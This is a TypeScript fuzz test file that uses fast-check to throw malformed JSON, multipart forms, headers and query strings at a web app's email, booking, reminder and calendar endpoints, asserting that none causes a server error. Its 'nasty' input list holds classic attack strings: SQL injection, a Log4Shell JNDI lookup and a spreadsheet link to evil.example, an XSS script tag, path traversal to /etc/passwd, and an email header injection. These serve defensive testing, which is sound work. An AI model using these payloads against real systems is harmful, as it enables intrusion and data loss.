import fc from 'fast-check';
import { expect, test } from 'vitest';
import { runningApp } from '../../testing/running-app.ts';

/** Texts that have broken somebody's server before. */
const nasty = fc.oneof(
  fc.constantFrom(
    '',
    'A\r\nBcc: everybody@example.com',
    '\0',
    '\ud800',
    '__proto__',
    'constructor',
    'toString',
    '=HYPERLINK("http://evil.example")',
    '@SUM(1+1)',
    '<script>alert(1)</script>',
    '../../../../etc/passwd',
    'C:\\CON',
    "'; drop table enquiries; --",
    '${jndi:ldap://evil.example}',
    '%00%ff',
    '\u202egnp.exe',
    'x'.repeat(70_000),
    'a@b.co',
  ),
  fc.string({ unit: 'binary', maxLength: 200 }),
);

const deep = fc
  .tuple(fc.constantFrom('[', '{"a":'), fc.nat(60_000))
  .map(([open, depth]) => open.repeat(depth) + (open === '[' ? ']' : '1}').repeat(depth));

const names = fc.oneof(
  fc.constantFrom(
    'contact_email',
    'contact_name',
    'message',
    'file',
    'form_token',
    'submitted_at',
    'start',
    'timeZone',
    'company',
  ),
  nasty,
);
const value = fc.oneof(nasty, fc.jsonValue({ maxDepth: 4 }), fc.dictionary(names, nasty, { maxKeys: 5 }));
const params = fc.oneof(fc.dictionary(names, value, { maxKeys: 12 }), value);
const mostly = <T>(usual: T) => fc.oneof({ weight: 6, arbitrary: fc.constant<unknown>(usual) }, value);

/** Nearly an enquiry, nearly a booking, or something else altogether. */
const nearly = fc.oneof(
  fc.record({
    user_id: mostly('site'),
    service_id: mostly('enquiries'),
    template_id: mostly('contact'),
    template_params: fc.oneof(
      params,
      fc.record({ contact_email: mostly('a@b.co'), contact_name: value, message: value, file: value }),
    ),
  }),
  fc.record(
    {
      start: mostly('2026-11-24T04:30:00.000Z'),
      name: mostly('Nimal'),
      email: mostly('a@b.co'),
      timeZone: mostly('Asia/Colombo'),
      topic: value,
    },
    { requiredKeys: [] },
  ),
  fc.record({ email: mostly('a@b.co'), company: mostly('incorporated=2026-02-10') }, { requiredKeys: [] }),
  value,
);

/** A few bytes replaced, and the end cut off. */
const damaged = (bytes: fc.Arbitrary<Buffer>) =>
  fc.tuple(bytes, fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 4 }), fc.nat()).map(([body, changes, end]) => {
    const copy = Buffer.from(body);
    for (const [at, byte] of changes) if (copy.length > 0) copy[at % copy.length] = byte;
    return end % 3 === 0 ? copy.subarray(0, end % (copy.length + 1)) : copy;
  });

/** Bodies for a call that expects JSON. */
const badJson = damaged(
  fc.oneof(
    nearly.map((body) => Buffer.from(JSON.stringify(body) ?? '')),
    deep.map((text) => Buffer.from(text)),
    deep.map((text) =>
      Buffer.from(`{"user_id":"site","service_id":"enquiries","template_id":"contact","template_params":${text}}`),
    ),
    fc.uint8Array({ maxLength: 500 }).map((bytes) => Buffer.from(bytes)),
  ),
);

const quoted = nasty.map((text) => text.replaceAll('"', '%22'));
const part = fc
  .record({
    name: fc.oneof(fc.constantFrom('user_id', 'service_id', 'template_id', 'contact_email', 'file'), quoted),
    filename: fc.option(fc.oneof(fc.constantFrom('a.pdf', 'b.txt', '../../c.png', 'd.svg', ''), quoted), {
      nil: undefined,
    }),
    type: fc.option(fc.oneof(fc.constantFrom('application/json', 'application/octet-stream'), quoted), {
      nil: undefined,
    }),
    content: fc.oneof(nasty, fc.constantFrom('site', 'enquiries', 'contact', 'a@b.co', '%PDF-1.7', 'PK\x03\x04')),
  })
  .map(({ name, filename, type, content }) => {
    const file = filename === undefined ? '' : `; filename="${filename}"`;
    const kind = type === undefined ? '' : `content-type: ${type}\r\n`;
    return `--edge\r\ncontent-disposition: form-data; name="${name}"${file}\r\n${kind}\r\n${content}\r\n`;
  });

const field = (name: string, value: string) =>
  `--edge\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
const complete = [
  field('user_id', 'site'),
  field('service_id', 'enquiries'),
  field('template_id', 'contact'),
  field('contact_email', 'a@b.co'),
].join('');

/** Bodies for a call that expects a form, with the boundary `edge`. */
const badForm = damaged(
  fc.oneof(
    fc
      .tuple(fc.constantFrom('', complete), fc.array(part, { maxLength: 12 }))
      .map(([start, parts]) => Buffer.from(`${start}${parts.join('')}--edge--\r\n`)),
    fc.uint8Array({ maxLength: 500 }).map((bytes) => Buffer.from(bytes)),
  ),
);

const form = 'multipart/form-data; boundary=edge';

test.each([
  ['/api/v1.0/email/send', 'application/json', badJson],
  ['/api/v1.0/email/send-form', form, badForm],
  ['/api/v1.0/email/send-form', 'application/x-www-form-urlencoded', badJson],
  ['/api/v1/bookings', 'application/json', badJson],
  ['/api/v1/bookings/x/cancel', 'application/json', badJson],
  ['/api/v1/bookings/x/move', 'application/json', badJson],
  ['/api/v1/reminders', 'application/json', badJson],
  ['/reminders/stop?id=x&token=y', form, badForm],
])(
  'no body makes %s (%s) fail',
  async (url, type, bodies) => {
    await using app = await runningApp();
    const statuses = new Map<number, number>();
    await fc.assert(
      fc.asyncProperty(bodies, async (payload) => {
        const answer = await app.app.inject({ method: 'POST', url, payload, headers: { 'content-type': type } });
        statuses.set(answer.statusCode, (statuses.get(answer.statusCode) ?? 0) + 1);
        expect(answer.statusCode).toBeLessThan(500);
      }),
    );
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    if (process.env['LAW_CASES']) console.log(url, type, Object.fromEntries(statuses));
  },
  3_600_000,
);

test.each([
  [
    '/api/v1.0/email/send',
    (inside: string) =>
      `{"user_id":"site","service_id":"enquiries","template_id":"contact","template_params":{"contact_email":"a@b.co","message":"x","extra":${inside}}}`,
  ],
  [
    '/api/v1/bookings',
    (inside: string) => `{"start":"2026-11-24T09:00:00Z","name":"N","email":"a@b.co","extra":${inside}}`,
  ],
  ['/api/v1/reminders', (inside: string) => `{"email":"a@b.co","company":"incorporated=2026-02-10","extra":${inside}}`],
])('%s takes a field that is nested deep: all that can be read can be written', async (url, body) => {
  await using app = await runningApp();
  for (const depth of [30, 1_000, 4_000, 20_000, 60_000]) {
    const payload = body('['.repeat(depth) + ']'.repeat(depth));
    const headers = { 'content-type': 'application/json' };
    const { statusCode } = await app.app.inject({ method: 'POST', url, payload, headers });
    expect(statusCode, `${depth} deep`).toBeLessThan(500);
  }
});

test('no link of a company makes the calendar fail', async () => {
  await using app = await runningApp();
  const query = fc.oneof(
    nasty,
    fc.dictionary(names, nasty).map((fields) => new URLSearchParams(fields).toString()),
  );
  await fc.assert(
    fc.asyncProperty(query, async (text) => {
      const url = `/api/v1/deadlines.ics?incorporated=2026-02-10&${encodeURI(text.toWellFormed())}`;
      expect((await app.app.inject({ url })).statusCode).toBeLessThan(500);
    }),
  );
});

test.each(['Idempotency-Key', 'Content-Type', 'X-Forwarded-For', 'Origin', 'Referer', 'User-Agent', 'Accept'])(
  'no %s header makes it fail',
  async (name) => {
    await using app = await runningApp({ TRUST_PROXY: '1', CORS_ORIGINS: 'https://a.example' });
    const payload = JSON.stringify({ user_id: 'site' });
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary-ascii', maxLength: 400 }), async (text) => {
        const headers = { 'content-type': 'application/json', [name.toLowerCase()]: text };
        const answer = await app.app.inject({ method: 'POST', url: '/api/v1.0/email/send', payload, headers });
        expect(answer.statusCode).toBeLessThan(500);
      }),
    );
  },
);
